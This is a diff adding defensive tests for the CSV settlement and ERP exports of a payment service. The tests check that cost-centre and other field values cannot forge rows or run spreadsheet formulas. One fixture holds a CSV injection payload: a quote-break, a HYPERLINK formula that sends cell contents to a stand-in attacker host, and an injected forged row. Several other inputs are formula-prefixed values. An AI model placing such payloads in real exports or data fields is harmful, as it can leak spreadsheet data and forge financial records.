@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import typing
 import uuid
 from datetime import UTC, date, datetime, timedelta
@@ -25,6 +27,7 @@ from services.payment.domain.reports import (
     erp_csv,
     erp_rows,
     reconcile,
+    settlement_csv,
     settlement_rows,
 )
 from shared.contracts.cart import (
@@ -231,6 +234,46 @@ def test_erp_rows_keep_refunds_apart_and_the_file_is_stable() -> None:
     assert [r.kind for r in rows] == ["refund", "sale"]
     assert erp_csv("2026-11-23", rows) == erp_csv("2026-11-23", erp_rows(reversed(entries)))
     assert "-8.81;-1.19" in erp_csv("2026-11-23", rows)
+
+
+FORGING_CENTRE = 'KM";=HYPERLINK("https://evil.example/?"&A1,"open")\nFORGED;99.00'
+
+
+def cells(text: str) -> list[list[str]]:
+    """A CSV file as a spreadsheet reads it (`;`, RFC 4180 quoting)."""
+    return list(csv.reader(io.StringIO(text), delimiter=";"))
+
+
+def test_a_cost_centre_cannot_forge_a_settlement_row_or_a_formula() -> None:
+    forged = settlement_rows(
+        [
+            Entry("sale", "gis", FORGING_CENTRE, 2550, 1255, 255, 1000),
+            Entry("sale", "gis", "=1+2", 2550, 1255, 255, 1000),
+            Entry("sale", "gis", "@SUM(A1)", 2550, 1255, 255, 1000),
+            Entry("refund", "gis", "\t-1+1", 2550, -1255, -255, -1000),
+        ]
+    )
+    header, *rows = cells(settlement_csv("2026-11-23", "gis", forged))
+    assert len(header) == 11
+    assert len(rows) == 4  # one per cost centre, no forged row
+    assert all(len(row) == 11 for row in rows)
+    by_centre = {row[2]: row for row in rows}
+    assert FORGING_CENTRE in by_centre  # one cell, quoted, starting as text ("KM")
+    assert {"'=1+2", "'@SUM(A1)", "'\t-1+1"} <= by_centre.keys()
+    assert by_centre["'\t-1+1"][7] == "12.55"  # refunded gross, as a number
+
+
+def test_the_erp_file_neutralises_formula_text_and_keeps_negative_amounts() -> None:
+    entries = [
+        Entry("sale", "s", "c", 1350, 2000, 238, 1762, "=cmd", "+320000", "-PC", "@IO", "S3"),
+        Entry("refund", "s", "c", 1350, -1000, -119, -881, "=cmd", "+320000", "-PC", "@IO", "S3"),
+    ]
+    header, *rows = cells(erp_csv("2026-11-23", erp_rows(entries)))
+    assert header[:3] == ["posting_date", "company_code", "profit_centre"]
+    refund, sale = rows
+    assert refund[1:6] == ["'=cmd", "'-PC", "'+320000", "S3", "'@IO"]
+    assert refund[7:] == ["-8.81", "-1.19", "EUR"]
+    assert sale[7:] == ["17.62", "2.38", "EUR"]
 
 
 def test_reconciliation_lists_every_kind_of_mismatch() -> None:
